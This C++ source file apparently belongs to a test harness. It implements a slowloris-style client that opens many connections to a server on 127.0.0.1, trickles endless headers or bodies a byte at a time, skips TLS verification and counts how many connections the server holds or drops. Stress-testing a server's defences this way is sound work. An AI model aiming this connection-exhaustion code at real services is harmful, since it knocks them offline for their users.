#include "slow_clients.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <string>

namespace chosa::attack {

namespace {

enum class Kind { kTrickledHead, kNoHandshake, kTrickledBody };

// A head that is never finished (its headers go on), and one whose body never ends.
const std::string kEndlessHead = "GET /healthz HTTP/1.1\r\nHost: collector\r\nX-Padding: ";
const std::string kBodyHead =
    "POST /api/v1/enroll HTTP/1.1\r\nHost: collector\r\nContent-Type: application/json\r\n"
    "Content-Length: 16000\r\n\r\n";

}  // namespace

struct SlowClients::Connection {
  Kind kind = Kind::kTrickledHead;
  std::string source;  // 127.0.0.N
  int fd = -1;
  SSL* ssl = nullptr;
  size_t sent = 0;  // bytes of the request sent so far
  std::chrono::steady_clock::time_point next;
};

// Whether the server has closed `c` (what it sent before, a ticket or an error answer, is read
// and dropped).
bool ClosedByServer(SlowClients::Connection& c) {
  char buffer[4096];
  if (c.ssl == nullptr) {
    const ssize_t n = ::recv(c.fd, buffer, sizeof buffer, MSG_DONTWAIT);
    return n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK);
  }
  for (;;) {
    const int n = SSL_read(c.ssl, buffer, sizeof buffer);
    if (n > 0) continue;
    const int error = SSL_get_error(c.ssl, n);
    ERR_clear_error();
    return error != SSL_ERROR_WANT_READ && error != SSL_ERROR_WANT_WRITE;
  }
}

SlowClients::SlowClients(const SlowClientsOptions& options) : options_(options) {
  SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, nullptr);  // the attacker does not care who answers
  tls_ = ctx;
  for (int i = 0; i < options_.connections; ++i) {
    auto c = std::make_unique<Connection>();
    c->kind = static_cast<Kind>(i % 3);
    c->source = "127.0.0." + std::to_string(options_.first_address + i % (255 - options_.first_address));
    connections_.push_back(std::move(c));
  }
}

SlowClients::~SlowClients() {
  Stop();
  SSL_CTX_free(static_cast<SSL_CTX*>(tls_));
}

void SlowClients::Start() {
  ::signal(SIGPIPE, SIG_IGN);  // a write to a connection the server closed is an error, not death
  stop_ = false;
  thread_ = std::thread([this] { Loop(); });
}

SlowClientsFigures SlowClients::Stop() {
  if (thread_.joinable()) {
    stop_ = true;
    thread_.join();
    figures_.held_at_end = held_.load();
    for (auto& c : connections_) {
      if (c->fd >= 0) Close(*c, false);
    }
  }
  return figures_;
}

// Opens `c` from its source address; for TLS kinds, completes the handshake (blocking, bounded
// by socket timeouts) and sends what comes before the trickle.
bool SlowClients::Open(Connection& c) {
  c.fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (c.fd < 0) return false;
  timeval timeout{2, 0};
  ::setsockopt(c.fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
  ::setsockopt(c.fd, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof timeout);
  sockaddr_in from{};
  from.sin_family = AF_INET;
  ::inet_pton(AF_INET, c.source.c_str(), &from.sin_addr);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<uint16_t>(options_.port));
  ::inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
  if (::bind(c.fd, reinterpret_cast<sockaddr*>(&from), sizeof from) != 0 ||
      ::connect(c.fd, reinterpret_cast<sockaddr*>(&to), sizeof to) != 0) {
    ::close(c.fd);
    c.fd = -1;
    return false;
  }
  ++figures_.opened;
  ++held_;
  c.sent = 0;
  c.next = std::chrono::steady_clock::now() + options_.byte_interval;
  if (c.kind == Kind::kNoHandshake) return true;  // says nothing at all
  c.ssl = SSL_new(static_cast<SSL_CTX*>(tls_));
  SSL_set_fd(c.ssl, c.fd);
  if (SSL_connect(c.ssl) != 1) {
    ERR_clear_error();
    Close(c, true);
    return false;
  }
  const std::string& start = c.kind == Kind::kTrickledHead ? kEndlessHead : kBodyHead;
  if (SSL_write(c.ssl, start.data(), static_cast<int>(start.size())) <= 0) {
    ERR_clear_error();
    Close(c, true);
    return false;
  }
  ::fcntl(c.fd, F_SETFL, ::fcntl(c.fd, F_GETFL) | O_NONBLOCK);  // from now on, only looked at
  return true;
}

void SlowClients::Close(Connection& c, bool by_server) {
  if (c.ssl != nullptr) SSL_free(c.ssl);
  c.ssl = nullptr;
  if (c.fd >= 0) ::close(c.fd);
  c.fd = -1;
  --held_;
  if (by_server) ++figures_.closed_by_server;
}

// One thread for every connection: each due connection sends its next byte; one the server
// closed is opened again.
void SlowClients::Loop() {
  while (!stop_) {
    const auto now = std::chrono::steady_clock::now();
    for (auto& owned : connections_) {
      if (stop_) break;
      Connection& c = *owned;
      if (c.fd < 0) {
        Open(c);
        continue;
      }
      if (ClosedByServer(c)) {
        Close(c, true);
        continue;
      }
      if (now < c.next || c.kind == Kind::kNoHandshake) continue;
      c.next = now + options_.byte_interval;
      const char byte = 'x';
      const int written = SSL_write(c.ssl, &byte, 1);
      if (written <= 0 && SSL_get_error(c.ssl, written) != SSL_ERROR_WANT_WRITE) {
        ERR_clear_error();
        Close(c, true);
      }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
}

}  // namespace chosa::attack
